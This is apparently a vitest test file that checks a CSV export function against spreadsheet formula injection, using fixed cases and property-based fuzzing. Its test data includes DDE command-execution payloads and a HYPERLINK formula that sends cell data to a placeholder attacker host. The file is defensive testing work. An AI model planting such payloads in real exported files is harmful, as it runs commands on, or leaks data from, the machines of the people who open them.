import { toCsv } from '@propsight/shared/format'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

/** Texts that Excel, LibreOffice or Google Sheets execute at the start of a cell. */
const FORMULAS = [
  `=cmd|'/c calc'!A1`,
  '=HYPERLINK("https://evil.test/?"&A1,"open")',
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '＝1+1',
  '＋1',
]
const PREFIXES = [
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\0',
  '\u00a0',
  'Ada;',
  'Ada\t',
  'Ada\n',
  'Ada\r\n',
  'Ada,',
  '",',
  '";',
  '"\n',
]
const EXECUTABLE = /^[\s\0]*[=+\-@＝＋－＠]/

/** Splits a table into cells like a spreadsheet: quotes count only at the start of a cell. */
function cellsOf(csv: string, separator: string): string[] {
  const cells: string[] = []
  for (let at = 0; at <= csv.length; ) {
    if (csv[at] === '"') {
      const end = /"(?!")/.exec(csv.slice(at + 1).replaceAll('""', '\0\0'))?.index ?? csv.length
      cells.push(csv.slice(at + 1, at + 1 + end))
      at += end + 2
    }
    const rest = csv.slice(at)
    const cut = rest.search(new RegExp(`[${separator}\\r\\n]`))
    const end = cut < 0 ? rest.length : cut
    if (end > 0) cells.push(rest.slice(0, end))
    at += end + 1
  }
  return cells
}
const findExecutableCells = (text: string) => {
  const csv = toCsv(
    ['Player', 'Team'],
    [
      [text, 'SEA'],
      ['Ada', text],
    ],
  )
  return [',', ';', '\\t']
    .flatMap((separator) => cellsOf(csv, separator))
    .filter((cell) => EXECUTABLE.test(cell))
}

describe('an exported CSV table', () => {
  it('is split into cells by these tests as a spreadsheet splits it', () => {
    expect(cellsOf('a,"b;=1"\r\nc;=2\r\n', ',')).toEqual(['a', 'b;=1', 'c;=2'])
    expect(cellsOf('a,"b;=1"\r\nc;=2\r\n', ';')).toEqual(['a,"b', '=1"', 'c', '=2'])
  })

  it.each(FORMULAS)('does not execute %j after any prefix and with any separator', (formula) => {
    for (const prefix of PREFIXES)
      expect(findExecutableCells(prefix + formula), JSON.stringify(prefix)).toEqual([])
  })

  it('does not execute any of 800 random texts', () => {
    const letter = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      ';',
      ',',
      '\t',
      '\r',
      '\n',
      '\0',
      ' ',
      '"',
      "'",
      'a',
      '1',
    )
    fc.assert(
      fc.property(fc.string({ unit: letter, maxLength: 12 }), (text) => {
        expect(findExecutableCells(text)).toEqual([])
      }),
      { numRuns: 800 },
    )
  })

  it('leaves names unchanged', () => {
    expect(toCsv(['Player'], [['José O’Neill-Smith Jr.'], ['more than 1.5 - 2']])).toBe(
      'Player\r\nJosé O’Neill-Smith Jr.\r\nmore than 1.5 - 2\r\n',
    )
  })
})
